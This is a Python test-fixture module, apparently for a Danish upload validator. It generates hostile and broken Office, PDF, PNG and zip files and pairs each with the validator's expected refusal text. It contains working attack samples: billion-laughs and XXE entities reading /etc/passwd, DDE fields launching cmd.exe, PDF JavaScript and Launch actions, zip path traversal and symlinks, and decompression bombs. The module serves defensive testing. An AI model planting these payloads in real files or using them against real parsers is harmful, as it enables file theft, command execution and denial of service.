"""Hostile and broken files, each bent in one place: name → (file name, builder, the words of the refusal)."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Name

from tests.motor.filer.pakke import (
    annotated,
    content_types,
    dictionary,
    lying_header,
    office,
    opening,
    pack,
    parts,
    patched,
    pdf,
    picture,
    png,
    related,
    relation,
    relations,
    sheet,
    word,
)

BESKADIGET = "Filen er beskadiget. Gem den på ny."
AKTIV = "Filen indeholder makroer eller hentede dele. Gem den uden, eller som PDF."
LAAST = "PDF-filen er låst eller har aktive dele. Udskriv den til en ny PDF."
BILLEDE = "Billedet kan ikke læses. Gem det som PNG eller JPG, og vedlæg det igen."
TOM = "Filen er tom. Vælg en anden."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = "<!DOCTYPE x [" + "".join(
    f'<!ENTITY a{nr} "{f"&a{nr - 1};" * 10 if nr else "ha"}">' for nr in range(10)
) + "]><x>&a9;</x>"  # fmt: skip


def filtype(ending):
    return f"Filtypen .{ending} kan ikke bruges. Gem filen som PDF, og vedlæg den igen."


def andet(ending):
    return f"Filen hedder .{ending}, men indholdet er noget andet. Åbn den, og gem den på ny."


def field(*runs, simple=None):
    """A Word field, its code cut into runs."""
    if simple:
        return word(f'<w:p><w:fldSimple w:instr="{simple}"/></w:p>')
    code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return word(f"<w:p>{mark.format('begin')}{code}{mark.format('separate')}{mark.format('end')}</w:p>")


def linked(kind, target="http://ude.example/x", of="docx", outside=True):
    return related(of, relation(kind, target, outside))


def backslash():
    return patched(office(**{"word/a.xml": "<x/>"}), b"word/a", b"word\\a")


def flat():
    """One part of 201 MB of blanks."""
    packed = io.BytesIO(office())
    with (
        zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("a.xml", "w") as part,
    ):
        for _ in range(201):
            part.write(b" " * 1024**2)
    return packed.getvalue()


def long_list():
    """A document whose end says that its list of contents is 3 MB."""
    plain = bytearray(office())
    place = plain.rfind(b"PK\x05\x06") + 12
    plain[place : place + 4] = (3 * 1024**2).to_bytes(4, "little")
    return bytes(plain)


def text_bomb():
    return png(1, 1, b"\0\0", (b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000))))


def symlink():
    info = zipfile.ZipInfo("word/lenke.xml")
    info.external_attr = 0o120777 << 16
    return pack({**parts(), info: "/etc/passwd"})


def twice():
    return pack({**parts(), "word/DOCUMENT.xml": "<x/>"})


def encrypted(**rights):
    return pdf(encryption=pikepdf.Encryption(R=6, **rights))


def hidden_script():
    """Script in an object that only an object stream holds."""

    def change(made):
        made.Root["/Tilfaeldig"] = made.make_indirect(pikepdf.Dictionary(S=Name.JavaScript, JS="app.alert(1)"))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def escaped_name():
    """Script whose name is written with a number for a letter."""
    return by_hand(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Jav#61Script/J#53(1)>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def by_hand(*objects):
    """A PDF of the objects as they stand, numbered from 1, the first being its catalog."""
    body, places = b"%PDF-1.4\n", []
    for nr, text in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (nr, text)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, len(body))  # fmt: skip


def page_loop():
    return by_hand(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def with_file():
    def change(made):
        made.attachments["a.exe"] = b"MZ"

    return pdf(change)


def in_root(**entries):
    def change(made):
        for key, value in dictionary(entries).items():
            made.Root[key] = value

    return pdf(change)


def flipped():
    """A document with one letter of a stored part changed."""
    return patched(pack(parts(), zipfile.ZIP_STORED), b"w:body", b"w:bodu")


def flagged():
    """A document whose list says that a part is encrypted."""
    plain = bytearray(office())
    place = plain.rfind(b"PK\x01\x02")
    plain[place + 8] |= 1
    return bytes(plain)


def lie(size=6_000):
    """A part that says it is 10 bytes and unpacks to many."""
    return lying_header(office(**{"word/a.xml": "<x>" + "A" * size + "</x>"}), size + 7, 10)


def inflated_table():
    """A cross-reference stream that, unpacked, is more than the child may hold twice."""
    packed = zlib.compress(bytes(300_000_000), 1)
    head = b"1 0 obj\n<</Type/XRef/Size 9/W[1 1 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return b"%PDF-1.5\n" + head + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


NAVNE = {
    "tom fil": ("a.pdf", lambda: b"", TOM),
    "program": ("a.exe", lambda: b"MZ", filtype("exe")),
    "to endelser": ("faktura.pdf.exe", lambda: b"MZ", filtype("exe")),
    "vendt navn": ("regn\u202efdp.exe", lambda: b"MZ", filtype("exe")),
    "ingen endelse": ("notat", pdf, filtype("(ingen)")),
    "docm": ("a.docm", office, filtype("docm")),
    "xlsm": ("a.XLSM", office, filtype("xlsm")),
    "pptm": ("a.pptm", office, filtype("pptm")),
    "gammel word": ("a.doc", lambda: OLE, filtype("doc")),
    "rtf": ("a.rtf", lambda: b"{\\rtf1}", filtype("rtf")),
    "svg": ("a.svg", lambda: b"<svg/>", filtype("svg")),
    "html": ("a.html", lambda: b"<script>", filtype("html")),
    "zip": ("a.zip", lambda: pack({"a": "b"}), filtype("zip")),
}
INDHOLD = {
    "program som pdf": ("a.pdf", lambda: b"MZ" + bytes(90), andet("pdf")),
    "html som pdf": ("a.pdf", lambda: b"<html>%PDF-1.4", andet("pdf")),
    "pdf efter blanktegn": ("a.pdf", lambda: b" " + pdf(), andet("pdf")),
    "docx som pdf": ("a.pdf", office, andet("pdf")),
    "pdf som docx": ("a.docx", pdf, andet("docx")),
    "låst docx": ("a.docx", lambda: OLE, andet("docx")),
    "tekst som xlsx": ("a.xlsx", lambda: b"a;b\n1;2\n", andet("xlsx")),
    "tom zip som pptx": ("a.pptx", lambda: pack({}), andet("pptx")),
    "jpg som png": ("a.png", lambda: picture(kind="JPEG"), andet("png")),
    "png som jpeg": ("a.jpeg", picture, andet("jpeg")),
    "gif som png": ("a.png", lambda: picture("P", "GIF"), andet("png")),
    "svg som jpg": ("a.jpg", lambda: b"<svg onload='x()'/>", andet("jpg")),
}
ZIP = {
    "afkortet docx": ("a.docx", lambda: office()[:-30], BESKADIGET),
    "zip-hoved og nuller": ("a.docx", lambda: b"PK\x03\x04" + bytes(900), BESKADIGET),
    "to tusind og en dele": ("a.docx", lambda: office(**{f"word/{n}.xml": "<x/>" for n in range(1_998)}), BESKADIGET),
    "sti opad": ("a.docx", lambda: office(**{"word/../../ud.xml": "<x/>"}), BESKADIGET),
    "sti fra roden": ("a.docx", lambda: office(**{"/etc/x.xml": "<x/>"}), BESKADIGET),
    "omvendt skråstreg": ("a.docx", backslash, BESKADIGET),
    "drev": ("a.docx", lambda: office(**{"C:/x.xml": "<x/>"}), BESKADIGET),
    "lang liste": ("a.docx", long_list, BESKADIGET),
    "lænke": ("a.docx", symlink, BESKADIGET),
    "samme del to gange": ("a.docx", twice, BESKADIGET),
    "forkert kontrolsum": ("a.docx", flipped, BESKADIGET),
    "krypteret del": ("a.docx", flagged, BESKADIGET),
    "lzma": ("a.docx", lambda: pack(parts(), zipfile.ZIP_LZMA), BESKADIGET),
    "bz2": ("a.xlsx", lambda: pack(parts("xlsx"), zipfile.ZIP_BZIP2), BESKADIGET),
    "uden indholdstyper": ("a.docx", lambda: office(**{"[Content_Types].xml": None}), BESKADIGET),
    "uden hoveddel": ("a.docx", lambda: office(**{"word/document.xml": None}), BESKADIGET),
    "uden forbindelser": ("a.docx", lambda: office(**{"_rels/.rels": None}), BESKADIGET),
    "to hoveddele": ("a.docx", lambda: office(**{"_rels/.rels": relations(
        relation("officeDocument", "word/document.xml"), relation("officeDocument", "word/b.xml", nr=2))}), BESKADIGET),
    "xlsx som docx": ("a.docx", lambda: office("xlsx"), BESKADIGET),
    "docx som pptx": ("a.pptx", office, BESKADIGET),
    "odt som docx": ("a.docx", lambda: pack({"mimetype": "x", "content.xml": "<x/>"}), BESKADIGET),
    "ødelagt xml": ("a.docx", lambda: office(**{"word/styles.xml": "<x><y></x>"}), BESKADIGET),
    "løgn om størrelse": ("a.docx", lie, BESKADIGET),
}  # fmt: skip
AKTIVE = {
    "makro": ("a.docx", lambda: office(**{"word/vbaProject.bin": "x"}), AKTIV),
    "omdøbt docm": ("a.docx", lambda: office(**{"[Content_Types].xml": content_types("docx", MACRO)}), AKTIV),
    "makro i xlsx": ("a.xlsx", lambda: linked("vbaProject", "vba.bin", "xlsx", False), AKTIV),
    "macro sheet": ("a.xlsx", lambda: office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"}), AKTIV),
    "activex": ("a.docx", lambda: office(**{"word/activeX/activeX1.xml": "<x/>"}), AKTIV),
    "kontrol": ("a.docx", lambda: linked("control", "c.bin", outside=False), AKTIV),
    "ole-objekt": ("a.docx", lambda: office(**{"word/embeddings/oleObject1.bin": "x"}), AKTIV),
    "ole under andet navn": ("a.docx", lambda: office(**{"word/embeddings/a.bin": OLE}), AKTIV),
    "ole-forbindelse": ("a.pptx", lambda: linked("oleObject", "a.dat", "pptx", False), AKTIV),
    "indlejret makrofil": ("a.pptx", lambda: office("pptx", **{
        "ppt/embeddings/a.docx": office(**{"word/vbaProject.bin": "x"})}), AKTIV),
    "indlejret to gange": ("a.pptx", lambda: office("pptx", **{
        "ppt/embeddings/a.docx": office(**{"word/embeddings/b.docx": office()})}), AKTIV),
    "ekstern skabelon": ("a.docx", lambda: linked("attachedTemplate"), AKTIV),
    "eksternt billede": ("a.docx", lambda: linked("image"), AKTIV),
    "ekstern ramme": ("a.docx", lambda: linked("frame", "\\\\ude\\a.htm"), AKTIV),
    "ekstern video": ("a.pptx", lambda: linked("video", of="pptx"), AKTIV),
    "altchunk": ("a.docx", lambda: linked("aFChunk", "a.html", outside=False), AKTIV),
    "dde": ("a.docx", lambda: field(" DDE excel ark"), AKTIV),
    "dde delt i to": ("a.docx", lambda: field(" DD", "EAUTO c:\\cmd.exe"), AKTIV),
    "dde simpel": ("a.docx", lambda: field(simple="ddeauto cmd"), AKTIV),
    "hentet tekst": ("a.docx", lambda: field(' INCLUDETEXT "http://ude.example/a"'), AKTIV),
    "hentet billede": ("a.docx", lambda: field(' INCLUDEPICTURE "\\\\ude\\a.png" \\d'), AKTIV),
    "eksternt regneark": ("a.xlsx", lambda: office("xlsx", **{"xl/externalLinks/externalLink1.xml": "<x/>"}), AKTIV),
    "ddelink": ("a.xlsx", lambda: office("xlsx", **{"xl/e.xml": '<x><ddeLink ddeService="cmd"/></x>'}), AKTIV),
    "dde i formel": ("a.xlsx", lambda: sheet("cmd|'/c calc'!A0"), AKTIV),
    "formel, der henter": ("a.xlsx", lambda: sheet("_xlfn.WEBSERVICE(A1)"), AKTIV),
    "dataforbindelse": ("a.xlsx", lambda: linked("connections", "connections.xml", "xlsx", False), AKTIV),
    "startet program": ("a.pptx", lambda: office("pptx", **{
        "ppt/slides/slide1.xml": '<x><hlinkClick action="ppaction://program"/></x>'}), AKTIV),
    "dtd": ("a.docx", lambda: office(**{"word/styles.xml": "<!DOCTYPE x><x/>"}), AKTIV),
    "dtd i utf-16": ("a.docx", lambda: office(**{"word/styles.xml": "<!DOCTYPE x><x/>".encode("utf-16")}), AKTIV),
    "ekstern entitet": ("a.xlsx", lambda: office("xlsx", **{
        "xl/a.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}), AKTIV),
    "parameterentitet": ("a.docx", lambda: office(**{
        "_rels/.rels": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://ude.example/a"> %a;]><x/>'}), AKTIV),
}  # fmt: skip
PDF = {
    "kodeord": ("a.pdf", lambda: encrypted(user="a", owner="b"), LAAST),
    "kun ejerens kodeord": ("a.pdf", lambda: encrypted(user="", owner="b"), LAAST),
    "script ved åbning": ("a.pdf", lambda: opening(S=Name.JavaScript, JS="app.alert(1)"), LAAST),
    "script i navnetræ": ("a.pdf", lambda: in_root(Names={"JavaScript": {"Names": [
        "a", pikepdf.Dictionary(S=Name.JavaScript, JS="1")]}}), LAAST),
    "skjult script": ("a.pdf", hidden_script, LAAST),
    "script med omskrevet navn": ("a.pdf", escaped_name, LAAST),
    "script ved side": ("a.pdf", lambda: annotated(AA={"E": {"S": Name.JavaScript, "JS": "1"}}), LAAST),
    "starter program": ("a.pdf", lambda: annotated(A={"S": Name.Launch, "F": "cmd.exe"}), LAAST),
    "åbner anden fil": ("a.pdf", lambda: annotated(A={"S": Name.GoToR, "F": "\\\\ude\\a"}), LAAST),
    "sender formular": ("a.pdf", lambda: annotated(A={"S": Name.SubmitForm, "F": "http://ude.example"}), LAAST),
    "henter data": ("a.pdf", lambda: annotated(A={"S": Name.ImportData, "F": "a"}), LAAST),
    "side ved åbning": ("a.pdf", lambda: opening(S=Name.URI, URI="http://ude.example"), LAAST),
    "udskriv ved åbning": ("a.pdf", lambda: opening(S=Name.Named, N=Name.Print), LAAST),
    "indlejret fil": ("a.pdf", with_file, LAAST),
    "vedhæftet fil på side": ("a.pdf", lambda: annotated(Subtype=Name.FileAttachment), LAAST),
    "medie": ("a.pdf", lambda: annotated(Subtype=Name.RichMedia), LAAST),
    "xfa": ("a.pdf", lambda: in_root(AcroForm={"XFA": ["template", "<x/>"]}), LAAST),
    "1.001 sider": ("a.pdf", lambda: pdf(pages=1_001), LAAST),
    "ingen sider": ("a.pdf", lambda: pdf(pages=0), LAAST),
    "afkortet pdf": ("a.pdf", lambda: pdf(pages=9)[:-90], LAAST),
    "kun hoved": ("a.pdf", lambda: b"%PDF-1.7\n", LAAST),
    "sider i ring": ("a.pdf", page_loop, LAAST),
}  # fmt: skip
BILLEDER = {
    "afkortet png": ("a.png", lambda: picture(size=(200, 200))[:-40], BILLEDE),
    "afkortet jpg": ("a.jpg", lambda: picture(kind="JPEG", size=(200, 200))[:-400], BILLEDE),
    "forkert kontrolsum i png": ("a.png", lambda: patched(picture(), b"IDATx", b"IDATy"), BILLEDE),
    "kun png-hoved": ("a.png", lambda: b"\x89PNG\r\n\x1a\n", BILLEDE),
    "kun jpg-hoved": ("a.jpg", lambda: b"\xff\xd8\xff" + bytes(40), BILLEDE),
    "halvtreds millioner og en": ("a.png", lambda: png(50_000_001, 1), BILLEDE),
    "nul bred": ("a.png", lambda: png(0, 10), BILLEDE),
    "andet format bag jpg": ("a.jpg", lambda: b"\xff\xd8\xff" + picture(), BILLEDE),
}
BOMBER = {
    "flad": ("a.docx", flat, BESKADIGET),
    "forhold": ("a.docx", lambda: office(**{"word/a.xml": "<x>" + " " * 9_000_000 + "</x>"}), BESKADIGET),
    "indlejret": ("a.pptx", lambda: office("pptx", **{
        "ppt/embeddings/a.docx": office(**{"word/a.xml": "<x>" + " " * 20_000_000 + "</x>"})}), BESKADIGET),
    "mange ark": ("a.xlsx", lambda: office("xlsx", **{
        f"xl/worksheets/s{nr}.xml": "<x/>" for nr in range(3_000)}), BESKADIGET),
    "delte tekster": ("a.xlsx", lambda: office("xlsx", **{
        "xl/sharedStrings.xml": "<s>" + "<si/>" * 3_000_000 + "</s>"}), BESKADIGET),
    "løgnagtigt hoved": ("a.docx", lambda: lie(20_000_000), BESKADIGET),
    "entiteter": ("a.docx", lambda: office(**{"word/styles.xml": LAUGHS}), AKTIV),
    "dyb xml": ("a.docx", lambda: office(**{"word/styles.xml": "<x>" * 2_000_000}), BESKADIGET),
    "pixels": ("a.png", lambda: png(60_000, 60_000, bytes(60_000)), BILLEDE),
    "tekst i png": ("a.png", text_bomb, BILLEDE),
    "dyb pdf": ("a.pdf", lambda: by_hand(b"<</Type/Catalog/Pages 2 0 R/A " + b"[" * 900_000 + b"]" * 900_000 + b">>",
                                         b"<</Type/Pages/Kids[]/Count 1>>"), LAAST),
    "pdf med oppustet tabel": ("a.pdf", inflated_table, LAAST),
}  # fmt: skip
ONDE = {**NAVNE, **INDHOLD, **ZIP, **AKTIVE, **PDF, **BILLEDER, **BOMBER}
